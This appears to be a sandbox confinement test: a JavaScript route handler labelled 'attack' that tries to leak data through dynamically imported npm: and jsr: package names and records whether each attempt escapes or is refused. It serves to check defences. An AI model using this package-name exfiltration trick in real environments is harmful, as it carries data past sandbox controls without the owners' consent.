// attack: carries data out in the name of a package, at run time
// worker: held
// process: held
routerAdd("GET", "/attack/%NAME%", async (e) => {
  const found = [];
  const attempt = async (what, fn) => {
    try { found.push([what, await fn()]) } catch (error) { found.push([what, "refused: " + error]) }
  };
  const name = "leak-" + Math.random();
  await attempt("npm", async () => "ESCAPED " + await import("npm:" + name));
  await attempt("jsr", async () => "ESCAPED " + await import("jsr:@leak/" + name));
  await attempt("require", () => "ESCAPED " + require("npm:" + name));
  return e.json(200, found);
});
